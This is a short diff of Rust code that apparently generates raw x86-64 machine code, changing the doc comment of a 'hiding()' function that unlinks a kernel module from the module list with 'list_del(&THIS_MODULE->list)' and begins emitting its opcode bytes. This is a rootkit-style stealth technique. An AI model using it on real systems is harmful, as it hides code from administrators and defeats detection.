@@ -56,7 +56,7 @@ impl Code {
         }
     }
 
-    /// Takes itself out of the list of modules: `list_del(&THIS_MODULE->list)`. It can't be removed any more.
+    /// Takes itself out of the list of modules: `list_del(&THIS_MODULE->list)`. It can't be removed until it is shown again.
     pub fn hiding() -> Self {
         let mut begin = vec![0x48, 0xba]; // rdx = its struct module
         let own_address = Some(begin.len());
